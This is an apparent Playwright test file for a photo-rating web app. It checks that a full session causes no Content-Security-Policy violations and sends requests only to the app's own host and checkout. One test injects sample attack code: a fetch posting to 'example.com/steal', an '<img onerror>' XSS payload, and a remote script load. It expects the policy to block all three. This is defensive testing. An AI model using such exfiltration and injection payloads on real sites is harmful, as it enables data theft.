import { choosePhoto, startBattle, stateOf, textFile } from '../scripts/support/productPage.mjs';
import { expect, expectState, ratePhoto, test } from './support/glowcheck.ts';
import { drawnFace } from './support/photos.ts';

test.describe('a whole session', () => {
  test.use({ serviceWorkers: 'allow' });

  test('[PRV-02] [AIX-04] breaks no policy and sends requests to its own host only', async ({
    page,
    context,
    servers,
  }) => {
    test.slow();
    const asked: string[] = [];
    // The requests of all pages and workers, the service worker among them.
    context.on('request', (request) => asked.push(request.url()));
    const violations: string[] = [];
    await page.exposeFunction('tellViolation', (what: string) => violations.push(what));
    await page.addInitScript(() => {
      const { tellViolation } = globalThis as unknown as {
        tellViolation: (what: string) => void;
      };
      document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
        tellViolation(`${violatedDirective} ${blockedURI}`),
      );
    });
    const press = (name: string | RegExp) => page.getByRole('button', { name }).first().click();
    const dialog = page.getByRole('dialog');
    const close = async () => {
      await page.keyboard.press('Escape');
      await expect(dialog).toBeHidden();
    };

    await test.step('a refused file, and a photo rated', async () => {
      await page.goto('/?admin=true');
      await expect(page.getByRole('heading', { name: 'Analytics dashboard' })).toBeVisible();
      await choosePhoto(page, textFile);
      await expect(page.getByText('Analysis Error')).toBeVisible();
      await ratePhoto(page, drawnFace('glam'));
    });
    await test.step('the card with the photo on it', async () => {
      await press('Picture Card');
      await expect(dialog.getByRole('button', { name: 'Save the Picture' })).toBeEnabled();
      await dialog.getByText('Put my photo on it').click();
      await expect(dialog.getByRole('button', { name: 'Save the Picture' })).toBeEnabled();
      await close();
    });
    await test.step('the words in the clipboard', async () => {
      await context.grantPermissions(['clipboard-read', 'clipboard-write']);
      await press('Share');
      await page.getByRole('alertdialog').getByRole('button', { name: 'OK' }).click();
    });
    await test.step('ten credits bought', async () => {
      await press('Buy Credits');
      await dialog.getByRole('button', { name: /^Buy/ }).click();
      await page.locator('#pay').click();
      await expect(page.getByText('Payment Successful!')).toBeVisible();
      await page.getByRole('alertdialog').getByRole('button', { name: 'OK' }).click();
    });
    await test.step('history and recovery', async () => {
      for (const name of ['Purchase History', 'Recover Credits']) {
        await press(name);
        await page.getByRole('alertdialog').getByRole('button', { name: 'OK' }).click();
      }
    });
    await test.step('two looks compared', async () => {
      await press('Analyze Another Look');
      await startBattle(page, drawnFace('glam'), drawnFace('bare'));
      await expectState(page, 'battle', 'results');
    });

    expect(violations).toEqual([]);
    const strangers = asked.filter((url) => {
      const { protocol, origin } = new URL(url);
      return !['blob:', 'data:'].includes(protocol) && origin !== servers.product.origin;
    });
    // The only other address is the checkout, which the visitor went to.
    expect(new Set(strangers)).toEqual(new Set([servers.checkout.link('starter')]));
    const kinds = asked.map((url) => new URL(url).pathname.replace(/^.*\./, ''));
    expect(kinds, 'workers and weights are among those listed').toEqual(
      expect.arrayContaining(['js', 'css', 'woff2', 'wasm', 'bin']),
    );
  });
});

test('[PRV-02] an injected script can neither run code from another site nor send anything there', async ({
  page,
  complaints,
}) => {
  await page.goto('/');
  await expect(stateOf(page, 'upload')).toBeVisible();
  const tried = await page.evaluate(async () => {
    const sent = await fetch('https://example.com/steal', { method: 'POST', body: 'x' }).then(
      () => 'sent',
      () => 'blocked',
    );
    const parsed = (() => {
      try {
        document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>';
        return 'parsed';
      } catch {
        return 'blocked';
      }
    })();
    const added = (() => {
      try {
        const script = document.createElement('script');
        script.src = 'https://example.com/steal.js';
        return 'added';
      } catch {
        return 'blocked';
      }
    })();
    return { sent, parsed, added };
  });
  expect(tried).toEqual({ sent: 'blocked', parsed: 'blocked', added: 'blocked' });
  complaints.length = 0;
});

test('the page carries its policy itself, and the headers refuse frames', async ({ page, servers }) => {
  const answer = await page.request.get(`${servers.product.origin}/`);
  expect(answer.headers()['content-security-policy']).toContain("frame-ancestors 'none'");
  expect((await answer.text()).replaceAll('&#39;', "'")).toContain("default-src 'none'");
});
